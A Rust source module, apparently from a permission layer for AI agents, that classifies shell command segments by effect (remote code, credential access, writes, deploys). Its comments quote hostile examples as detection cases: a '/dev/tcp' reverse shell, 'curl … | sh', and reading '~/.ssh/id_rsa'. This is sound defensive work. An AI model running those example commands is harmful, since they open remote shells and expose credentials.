//! The `class` matcher's judge: a command line → what each of its segments does.
//!
//! Each segment (see the parent module: `&&`/`;`/`|` parts, substitutions, `sh -c` scripts,
//! `find -exec` commands) gets a set of classes and the files it names, each read or
//! changed. The lexer does the shell's reading; this module does the judging:
//! - wrappers are seen through (`sudo` adds `privilege`, `xargs` feeds operands nobody can
//!   see), and a command is judged by its basename;
//! - a command that cannot be known before it runs (a variable or substitution in command
//!   position, a glob, non-ASCII look-alikes, unparsable text) is `unknown`;
//! - a shell or interpreter reading code from a pipe fed by a download or a decoder is
//!   `remote_code`; inline code (`python -c`) is inspected by [`super::code`];
//! - redirections are writes; `cd` moves the working directory of what follows it;
//! - files are resolved against the working directory and checked against credential
//!   material, credential directories and start-up files from the classification data.

use super::code;
use super::lex::{holds_temp, LexError, Segment, Word, TOPLEVEL};
use super::{
    basename, crude_segments, is_assignment, is_runner, loads_secrets, names_production,
    nix_fetches_expression, parse_command, parse_command_reading, strip_one_wrapper, KEYWORDS,
    SHELLS,
};
use crate::classes::{Class, ClassSet, ClassTable, OperandMode};
use crate::context::Context;
use crate::context::WINDOWS_TEMP;
use crate::matcher::path::{below, TMP_DIRS};
use wrappers::Unwrapped;

mod attributes;
mod cloud;
mod computed;
mod console;
mod copying;
mod docker;
mod dry_run;
mod editors;
mod effects;
mod environment;
mod files;
mod find;
mod git;
mod globs;
mod inline;
mod keys;
mod kube;
mod line;
mod listed;
mod lookup;
mod names;
mod operands;
mod own_api;
mod passed;
mod programs;
mod project;
mod reach;
mod readings;
mod remote;
mod runs;
mod sed_awk;
mod services;
pub(crate) mod sql;
mod url;
mod windows;
mod words;
mod wrappers;
mod written;

use operands::Operands;
use runs::make_variable_runs;

pub use written::classify_code;

use copying::*;
use dry_run::{dry_run_classes, dry_run_reads};
use environment::{dumps_environment, prints_secret_variable};
use find::prints_no_content;
use git::git_specials;
use inline::*;
use names::{agent_from_package, named_effects, script_effects, started_package, toolchain_tool};
use readings::readings;
/// (The inline-code reader judges the addresses code writes as commands' are.)
pub(super) use words::is_local_url;
use words::*;

/// Commands longer than this are not read at all: they are one `unknown` segment. Real
/// command lines are far shorter; this bounds the work a hostile one can cause.
pub const MAX_COMMAND_BYTES: usize = 256 * 1024;

/// Whether a file is only read, or changed (written, created, deleted, moved, its
/// permissions changed, or a directory something is built or run in).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    Read,
    Change,
    /// The directory a command builds, installs or runs in: it must lie where an allow
    /// rule's `paths` say, as a change does, but the command does not delete, write or
    /// change the permissions of the directory itself (`python -c "os.remove('x')"` run
    /// in the project does not delete the project).
    Workdir,
}

/// A file a segment names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileRef {
    /// Absolute and normalised, or `None` when it cannot be known (a variable, a relative
    /// path without a working directory, operands fed by `xargs`).
    pub path: Option<String>,
    /// The word was a glob: it stands for `path` and everything below it.
    pub tree: bool,
    /// Only files are deleted, never a folder or what one holds (`rm` without `-r`,
    /// `unlink`): `path` itself, or, with `tree`, files below it. A path pattern written
    /// for folders (ending in `/`) never matches it.
    pub file_only: bool,
    pub role: Role,
}

impl FileRef {
    /// What the path stands for, when a pattern is matched against it.
    pub fn extent(&self) -> crate::matcher::path::Extent {
        crate::matcher::path::Extent::new(self.tree, self.file_only)
    }
}

/// What one segment does.
#[derive(Debug, Clone, Default)]
pub struct SegmentFacts {
    /// The segment as words, for explanations.
    pub text: String,
    pub classes: ClassSet,
    pub files: Vec<FileRef>,
    /// For each of `files`: whether it is credential material, when it is one known file
    /// (`false` for a tree or an unknown path). Computed once here, reused by the `class`
    /// matcher's allow.
    pub credential: Vec<bool>,
}

/// What a whole command line does.
#[derive(Debug, Clone, Default)]
pub struct CommandFacts {
    pub segments: Vec<SegmentFacts>,
}

/// Judges a command line in `context`.
pub fn classify(command: &str, table: &ClassTable, context: &Context) -> CommandFacts {
    if command.len() > MAX_COMMAND_BYTES {
        return CommandFacts {
            segments: vec![SegmentFacts {
                text: "(a command too long to read)".into(),
                classes: ClassSet::of(&[Class::Unknown]),
                files: Vec::new(),
                credential: Vec::new(),
            }],
        };
    }
    let mut out = Vec::new();
    let mut computed = Vec::new();
    let mut handed = Vec::new();
    for segments in readings(command, context.on_windows(), context.powershell()) {
        let mut judge = Judge::new(table, context, any_feeds_code(&segments));
        judge.computed = computed::computed_variables(&segments);
        judge.all(&segments, context.cwd().map(str::to_string), 0);
        computed.append(&mut judge.computed);
        handed.extend(judge.handed_to_login.iter().map(|index| out.len() + index));
        let mut part = judge.out;
        project::replaces_checkout(&mut part);
        out.append(&mut part);
    }
    for (index, segment) in out.iter_mut().enumerate() {
        // (A variable this line set from a command's output holds what that command
        // printed, judged where it ran: `token=$(curl -s localhost… | grep csrf)`.)
        if prints_secret_variable(&segment.text, &computed, context.on_windows()) {
            segment.classes.insert(if handed.contains(&index) {
                Class::CredentialSearch
            } else {
                Class::CredentialAccess
            });
        } else if environment::prints_computed_variable(&segment.text) {
            segment.classes.insert(Class::CredentialSearch);
        }
    }
    CommandFacts { segments: out }
}

struct Judge<'a> {
    table: &'a ClassTable,
    context: &'a Context,
    /// Some segment downloads or decodes: a shell reading a pipe may run what it produced.
    sources: bool,
    /// Variables the line sets to what a command printed or read (`X=$(…)`, `read X`,
    /// `for X in $(…)`): a command run from one of them may run what a download brought.
    computed: Vec<String>,
    out: Vec<SegmentFacts>,
    /// While judging the command of a `find … -exec`: what its `{}` stands for (what the
    /// `find` finds below its one place), when that can be told.
    found: Option<FileRef>,
    /// While judging a segment that reads a pipe from a `find` (`find src -name '*.py' |
    /// xargs grep -l x`): the files that `find` prints, when that can be told.
    piped_found: Option<FileRef>,
    /// Files this line wrote literal text into (`echo … > f`, `cat > f <<EOF`), by
    /// absolute path, with the text: a later segment that runs one runs that text.
    written: Vec<(String, String)>,
    /// Files this line downloaded into (`curl -o f URL`, `wget URL`), by absolute path: a
    /// later segment that runs one runs code fetched at run time, as `curl … | sh` does.
    downloaded: Vec<String>,
    /// Folders this line unpacked a downloaded archive into (`tar -xzf x.tgz -C DIR`): a
    /// program run from there came with the download.
    extracted: Vec<String>,
    /// While judging the command a runner runs in the project's environment (`uv run`,
    /// `poetry run`, `bundle exec`): a name no table knows is the project's own script
    /// or entry point (`poetry run mycli`), as `npm run` runs the project's scripts.
    in_runner: bool,
    /// While judging the command a secret loader runs (`dotenv -e .env --`, `op run --`),
    /// and the lines judged from within it (a container's command): whether the secrets
    /// are production's. A `sh -c '…'` script it is given is read apart by the parser and
    /// judged on its own, without them.
    secrets_loaded: Option<bool>,
    /// Variables this line set to the process id of a job it started (`PID=$!`).
    job_pids: Vec<String>,
    /// Variables this line set to what a listing printed, with the place listed
    /// (`listed.rs`).
    listed: Vec<(String, FileRef)>,
    /// This line exported a Docker daemon elsewhere (`export DOCKER_HOST=ssh://…`) or a
    /// kubeconfig of its own (`export KUBECONFIG=…`) for the commands after it.
    exported_elsewhere: bool,
    /// While reading the operands of a command that deletes files only (`rm` without
    /// `-r`): a glob is the files it names, not the folder they are in.
    deleting_files: bool,
    /// The judged segments (indices into `out`) whose output a login reads as its password
    /// or token (`echo "$TOKEN" | docker login --password-stdin`): a secret variable they
    /// print goes to the login, not to the agent.
    handed_to_login: Vec<usize>,
    /// While judging a command that holds one command substitution: the API hosts of the
    /// service whose token that substitution prints (`$(gh auth token)`), if it prints one.
    substituted_token: Option<&'static [&'static str]>,
    /// The segment just judged sent that token to its own service's API only (`own_api.rs`).
    token_to_own_api: bool,
    /// Variables an earlier segment of the line set for the commands after it (`export
    /// BASE_URL=https://…`, `DATABASE_URL=$PROD_DATABASE_URL;`, PowerShell's `$env:X = …`),
    /// as assignment words: what a command's own words say it is given (`effects.rs`)
    /// counts them as its own prefix.
    exported: Vec<Word>,
}

/// What a segment's working directory is: known, or unknown after `cd $X`.
type Cwd = Option<String>;

/// Whether `program` (named by its path) is installed: in a `bin` folder (`Scripts` for
/// a Windows environment), outside the temporary folders.
fn installed_program(program: &str) -> bool {
    let folders: Vec<&str> = program.split(['/', '\\']).collect();
    let parent = folders.len().checked_sub(2).and_then(|at| folders.get(at));
    matches!(parent, Some(&("bin" | "Scripts")))
        && !["/tmp/", "/var/tmp/", "/dev/shm/", "/private/tmp/"]
            .iter()
            .any(|temporary| program.starts_with(temporary))
}

impl<'a> Judge<'a> {
    /// Whether the program at `path` (absolute, or under `~/`) lies in the project: `false`
    /// with no project known; `true` for a path that cannot be placed (it may).
    fn in_project(&self, path: &str) -> bool {
        match (self.context.resolve(path), self.context.project()) {
            (Some(path), Some(project)) => {
                path == project || path.starts_with(&format!("{}/", project.trim_end_matches('/')))
            }
            (None, _) => true,
            (Some(_), None) => false,
        }
    }

    fn unknown(&mut self, text: &str) {
        self.out.push(SegmentFacts {
            text: text.to_string(),
            classes: ClassSet::of(&[Class::Unknown]),
            files: Vec::new(),
            credential: Vec::new(),
        });
    }

    pub(super) fn new(table: &'a ClassTable, context: &'a Context, sources: bool) -> Judge<'a> {
        Judge {
            table,
            context,
            sources,
            computed: Vec::new(),
            out: Vec::new(),
            found: None,
            piped_found: None,
            in_runner: false,
            secrets_loaded: None,
            written: Vec::new(),
            downloaded: Vec::new(),
            extracted: Vec::new(),
            job_pids: Vec::new(),
            listed: Vec::new(),
            exported_elsewhere: false,
            deleting_files: false,
            handed_to_login: Vec::new(),
            substituted_token: None,
            token_to_own_api: false,
            exported: Vec::new(),
        }
    }

    /// Judges one segment; returns the working directory it moves to, for `cd`.
    fn segment(&mut self, segment: &Segment, cwd: Cwd, nesting: usize) -> Option<Cwd> {
        let mut text =
            String::with_capacity(segment.words.iter().map(|word| word.text.len() + 1).sum());
        for (index, word) in segment.words.iter().enumerate() {
            if index > 0 {
                text.push(' ');
            }
            text.push_str(&word.text);
        }
        let mut facts = SegmentFacts {
            text,
            ..SegmentFacts::default()
        };
        if segment.crude {
            facts.classes.insert(Class::Unknown);
        }
        self.job_pids
            .extend(environment::job_pid_variable(&segment.words));
        let connects_out = self.redirections(segment, cwd.as_deref(), &mut facts);

        let loaded_before = self.secrets_loaded;
        let Unwrapped {
            words,
            from_stdin,
            remote_docker,
        } = self.unwrap(segment, &cwd, nesting, &mut facts);
        let mut words = words;
        let named = runs::stdin_script(words, segment);
        if let Some(named) = &named {
            words = named;
        }
        self.run_written(words, cwd.as_deref(), nesting);
        // A shell whose input or output is a connection to another machine is a shell for
        // whoever is at the other end (`bash -i >& /dev/tcp/HOST/4444 0>&1`).
        if connects_out
            && words
                .first()
                .is_some_and(|first| !first.dynamic && SHELLS.contains(&basename(&first.text)))
        {
            facts.classes.insert(Class::RemoteCode);
        }
        let mut moved = None;
        match words.split_first() {
            None => {
                // Only assignments, keywords or redirections: nothing runs.
                if facts.classes.is_empty() {
                    facts.classes.insert(Class::ReadOnly);
                }
            }
            Some((first, arguments)) => {
                moved = self.command(
                    first, arguments, segment, &cwd, from_stdin, nesting, &mut facts,
                );
            }
        }
        // What changes anything on another machine's Docker deploys there; a look
        // (`docker ps`) is a look.
        if remote_docker && !facts.classes.is_subset(ClassSet::of(&[Class::ReadOnly])) {
            facts.classes.insert(Class::Deploy);
        }
        self.check_files(&mut facts, copies_trees(words));
        // `curl -o tool URL && chmod +x tool`, a release unpacked and made runnable: a
        // program fetched and readied to run is installed.
        if self.sources && computed::makes_executable(words) {
            facts.classes.insert(Class::Install);
        }
        if let Some(production) = self.secrets_loaded {
            effects::loaded_secrets_effects(&mut facts.classes, production);
        }
        self.secrets_loaded = loaded_before;
        self.note_downloaded(words, segment, &facts, cwd.as_deref());
        self.out.push(facts);
        self.note_written(words, segment, cwd.as_deref(), nesting);
        moved
    }

    /// Judges the command `first arguments` into `facts`.
    #[allow(clippy::too_many_arguments)]
    fn command(
        &mut self,
        first: &Word,
        arguments: &[Word],
        segment: &Segment,
        cwd: &Cwd,
        from_stdin: bool,
        nesting: usize,
        facts: &mut SegmentFacts,
    ) -> Option<Cwd> {
        // On Windows a program is named with backslashes too, and its folders often hold
        // blanks (`E:\\conda\\python.exe`, `C:\\Program Files\\Git\\bin\\git.exe`).
        let windows = self.context.on_windows();
        if let Some(words) = windows
            .then(|| windows::cmd_rmdir_as_rm(first, arguments))
            .flatten()
        {
            let (first, rest) = words.split_first()?;
            return self.command(first, rest, segment, cwd, from_stdin, nesting, facts);
        }
        let program = if windows {
            std::borrow::Cow::Owned(first.text.replace('\\', "/").replace(' ', "_"))
        } else {
            std::borrow::Cow::Borrowed(first.text.as_str())
        };
        // A program in the home (`~/.platformio/penv/bin/pio`) is named as absolutely as
        // one in `/opt`; `~user/…` is not.
        let in_home = program.strip_prefix("~/");
        if first.dynamic || first.glob.is_some() || !plain_name(in_home.unwrap_or(&program)) {
            // `$CMD` where the line never set CMD from a command's output (a literal, a
            // default, the environment) runs nothing a download brought: unknown, asked.
            let from_output = computed::variable_name(&first.text)
                .is_none_or(|name| self.computed.iter().any(|computed| computed == name));
            facts.classes.insert(if first.dynamic && from_output {
                self.hidden_code()
            } else {
                Class::Unknown
            });
            // What it is given may still be read: `$X ~/.ssh/id_rsa`.
            for word in arguments {
                facts
                    .files
                    .push(self.file(word, cwd.as_deref(), Role::Read));
            }
            return None;
        }
        // A relative path runs a file of the working tree (`./run.sh`, `bin/dev`): the
        // project's own script, judged by where it lies. A tool installed into the project
        // (`.venv/bin/pip`, `node_modules/.bin/prisma`) is judged as that tool when the
        // classification knows it (`.venv/bin/pip install` installs), else as a script.
        let installed = installed_tool(&program).and_then(|name| {
            let texts: Vec<&str> = arguments.iter().map(|word| word.text.as_str()).collect();
            self.table.lookup(name, &texts).map(|found| (name, found))
        });
        // A program named by its URL (`uv run https://…/x.py`): code fetched and run.
        let lower = program.to_ascii_lowercase();
        if lower.starts_with("http:") || lower.starts_with("https:") || lower.starts_with("ftp:") {
            facts.classes.insert(Class::RemoteCode);
            return None;
        }
        let absolute = program.starts_with('/')
            || in_home.is_some()
            || (windows && program.as_bytes().get(1) == Some(&b':'));
        if program.contains('/') && !absolute && installed.is_none() {
            facts.classes.insert(Class::Build);
            facts
                .classes
                .extend(script_effects(&program, "", arguments));
            // The framework's own launcher (`bin/rails`, `bin/rake`, `./manage.py`) runs its
            // tasks as the tool does.
            let launcher = basename(&program);
            if matches!(launcher, "rails" | "rake" | "manage.py") {
                facts
                    .classes
                    .extend(console::migration_effects(launcher, arguments, segment));
            }
            // `./manage.py diffsettings` is `python manage.py diffsettings`.
            if launcher == "manage.py" {
                let texts: Vec<&str> = std::iter::once("manage.py")
                    .chain(arguments.iter().map(|word| word.text.as_str()))
                    .collect();
                if let Some((classes, _)) = self.table.lookup("python", &texts) {
                    facts.classes.extend(classes);
                }
            }
            facts
                .files
                .push(self.file(first, cwd.as_deref(), Role::Change));
            self.operands_read(arguments, cwd, facts);
            self.output_options(arguments, cwd.as_deref(), facts);
            return None;
        }
        // Podman and nerdctl take Docker's commands and options, and are judged as it; a
        // cross toolchain's or LLVM's binary tools (`powerpc-linux-gnu-objdump`,
        // `llvm-readelf`) as the tool.
        let name = match basename(&first.text) {
            "podman" | "nerdctl" => "docker",
            "podman-compose" => "docker-compose",
            name => toolchain_tool(name).unwrap_or(name),
        };
        if windows && self.cmd_builtin(name, arguments, cwd, facts) {
            return None;
        }
        if self.attributes(name, arguments, cwd.as_deref(), facts) {
            return None;
        }
        // `open report.pdf` on macOS, `xdg-open http://localhost:3000`: shown to the person.
        if self.shown(name, arguments, cwd.as_deref(), facts) {
            return None;
        }
        let texts: Vec<&str> = arguments.iter().map(|word| word.text.as_str()).collect();
        let (classes, used) = self.table_classes(name, first, arguments, installed);
        // `kubectl --context kind-dev apply …`: a cluster of this machine's own, as a
        // container run by compose.
        let own_kubeconfig = self.exported_elsewhere
            || segment
                .words
                .iter()
                .take_while(|word| is_assignment(&word.text))
                .any(|word| word.text.starts_with("KUBECONFIG="));
        let classes = if matches!(name, "kubectl" | "helm")
            && classes.contains(Class::Deploy)
            && !own_kubeconfig
            && kube::local_cluster(arguments)
        {
            let mut local = remove(classes, Class::Deploy);
            local.insert(Class::Build);
            local
        } else {
            classes
        };
        if texts.first() == Some(&"init") && self.package_init(name, &texts, cwd, facts) {
            return None;
        }
        // `pip install --help`, `gh --version`, `entire checkpoint --help`: a program on
        // the path, or installed in a `bin` folder outside the project and the temporary
        // folders (`~/.venv/bin/mcp dev --help`), asked only for its help or its version
        // prints it and does nothing else. The project's own programs are judged as its
        // scripts; a file anywhere else (`/tmp/x --help`) may be anything.
        if (self.table.knows(name)
            || !first.text.contains(['/', '\\'])
            || (absolute && installed_program(&program) && !self.in_project(&program)))
            && only_asks_help(name, &texts, used)
            // `devbox version`: a program on the path the table does not know, asked for
            // its version by the word most tools take (the known ones are in the table:
            // `npm version` bumps the package's).
            || (!self.table.knows(name) && !first.text.contains(['/', '\\']) && texts == ["version"])
        {
            facts.classes.insert(Class::ReadOnly);
            return None;
        }
        // `set -e`, `printenv PATH`: commands of the environment that print no secret.
        if let Some(class) = environment::variables_read(name, arguments, &self.job_pids) {
            facts.classes.insert(class);
            return None;
        }
        let console = (name, arguments, segment);
        if self.framework_code(console, cwd.as_deref(), nesting, facts) {
            return None;
        }
        let before = facts.classes;
        let mut options = self.table.option_classes(name, &texts);
        if let Some((agent, given)) = agent_from_package(name, &texts) {
            options.extend(self.table.option_classes(agent, given));
        }
        facts.classes.extend(classes);
        facts.classes.extend(options);
        // A dry run (`git push --dry-run`, `git clean -n`) is what it still does. An
        // option that runs other code or needs more power keeps its class.
        let dry = self.table.dry_run(name, &texts);
        let mark = facts.files.len();
        if let Some(dry) = dry {
            dry_run_classes(facts, before, dry, options);
        }
        let reach = programs::reach(name, arguments);
        if reach.runs {
            facts.classes.insert(Class::Unknown);
        }
        match reach.environment {
            // Printing the environment is looking for credentials; printing a secret's
            // value is reading it.
            Some(programs::Environment::Whole) => facts.classes.insert(Class::CredentialSearch),
            Some(programs::Environment::Secret) => facts.classes.insert(Class::CredentialAccess),
            None => {}
        }
        for (file, role) in reach.files {
            if role == Role::Change {
                facts.classes.insert(Class::Write);
            }
            facts
                .files
                .push(self.path(&file, false, cwd.as_deref(), role));
        }
        let changes = facts.classes.intersects(ClassSet::of(&[
            Class::Write,
            Class::Delete,
            Class::Permissions,
        ]));

        // The directory the command works in: `git -C dir`, `make -C dir`, `npm --prefix`.
        let mut dir = cwd.clone();
        if let Some((text, dynamic)) = directory_option(name, arguments) {
            dir = if dynamic {
                None
            } else {
                self.context.resolve_from(&text, cwd.as_deref())
            };
        }
        if facts.classes.intersects(ClassSet::of(&[
            Class::Build,
            Class::VcsLocal,
            Class::Install,
            Class::Discard,
        ])) {
            facts.files.push(FileRef {
                path: dir.clone(),
                tree: false,
                file_only: false,
                role: Role::Workdir,
            });
        }
        if facts.classes.contains(Class::Build) && dry.is_none() {
            self.build_outputs(name, arguments, dir.as_deref(), facts);
        }
        // `aws s3 cp s3://… ./out`, `gcloud storage cp gs://… data/`: a download into the
        // file it names.
        if segment.here_text.is_none() {
            let download = match name {
                "aws" => cloud::s3_download(arguments),
                _ => cloud::gs_download(name, arguments),
            };
            if let Some(destination) = download {
                facts.classes = remove(remove(facts.classes, Class::Network), Class::Deploy);
                facts.classes.insert(Class::Fetch);
                if destination.text != "-" {
                    facts
                        .files
                        .push(self.file(destination, cwd.as_deref(), Role::Change));
                }
            }
        }
        self.words_effects(&first.text, name, arguments, segment, dry.is_some(), facts);
        self.notebook(name, arguments, dir.as_deref(), facts);
        if name == "git" {
            git_specials(arguments, facts);
            git::history_key_search(arguments, facts);
            self.git_history_reads(arguments, dir.as_deref(), facts);
            self.git_init_here(arguments, dir.as_deref(), facts);
        }
        self.kept_code(name, arguments, cwd.as_deref(), nesting, facts);
        // Data fed to a command (`… | ssh host 'cat > x'`, `psql < dump.sql`) is what it
        // sends or runs, whatever its own words say.
        let fed = segment.piped
            || segment.here_text.is_some()
            || segment.redirections.iter().any(|(_, writes)| !writes);
        if name == "ssh" && !fed {
            self.ssh(arguments, nesting, facts);
        }
        services::tls_look(name, arguments, segment, facts);
        // A key made into the files it names is judged by them alone.
        let generated = self.key_generation(name, arguments, cwd.as_deref(), facts);
        if !segment.piped && segment.here_text.is_none() {
            self.runs_elsewhere(name, arguments, nesting, facts);
        }
        if name == "docker" {
            self.docker_work(arguments, cwd.as_deref(), nesting, facts);
        }
        self.database_query(name, arguments, segment, fed, cwd.as_deref(), facts);

        let role = if changes { Role::Change } else { Role::Read };
        let mode = self.table.operand_mode(name, &texts);
        let named = facts.files.len();
        let files_only = files::deletes_files_only(name, arguments);
        self.deleting_files = files_only;
        let moved = if generated {
            None
        } else {
            self.operands_by_mode(
                Operands {
                    name,
                    arguments,
                    used,
                    texts: &texts,
                    changes,
                    role,
                    mode,
                    segment,
                    nesting,
                },
                cwd.as_deref(),
                dir.as_deref(),
                facts,
            )
        };
        if dry.is_some() {
            dry_run_reads(facts, mark, before);
        }
        self.archive_read(first, arguments, cwd.as_deref(), &mut facts.files);
        self.deleting_files = false;
        if name == "git" && git::untracks_only(arguments) {
            // Inside the work area its operands are the index's alone; another repository's
            // (`git -C ../other rm -r --cached .`) stay, judged where they lie.
            let mut index = 0;
            let files = std::mem::take(&mut facts.files);
            facts.files = files
                .into_iter()
                .filter(|file| {
                    index += 1;
                    index <= named
                        || file.role == Role::Workdir
                        || !file
                            .path
                            .as_deref()
                            .is_some_and(|path| self.inside_work_area(path))
                })
                .collect();
        }
        if files_only {
            for file in &mut facts.files[named..] {
                file.file_only |= file.role == Role::Change;
            }
        }
        let only_reads = facts.classes.is_subset(ClassSet::of(&[Class::ReadOnly]));
        // `… | xargs grep -l x`, `xargs wc -l`, `xargs ls -la`: whatever the pipe names, only
        // names, counts or attributes come out, never what the files hold.
        // (Not a search for secrets' names, `xargs grep -l password`: where the files are
        // cannot be told, and a hunt for them outside the project is asked.)
        let hunts = arguments.iter().any(|word| {
            let lower = word.text.to_ascii_lowercase();
            self.table
                .credential_words
                .iter()
                .any(|credential| lower.contains(credential.as_str()))
        });
        let reads_no_files = only_reads
            && (mode == OperandMode::None
                || mode == OperandMode::Names
                || (prints_no_content(name, arguments) && !hunts));
        if from_stdin && !reads_no_files {
            // `xargs rm`: the operands come from the pipe; nobody can say which. A command
            // that only looks and whose operands are no files (`xargs ps -p`, `xargs echo`)
            // names none; one that does more (`xargs git checkout --`) may name anything.
            // After `find PLACE … |`, the names are what that `find` found there.
            facts.files.push(match &self.piped_found {
                Some(found) => FileRef {
                    role,
                    ..found.clone()
                },
                None => FileRef {
                    path: None,
                    tree: false,
                    file_only: false,
                    role,
                },
            });
        }
        moved
    }
}
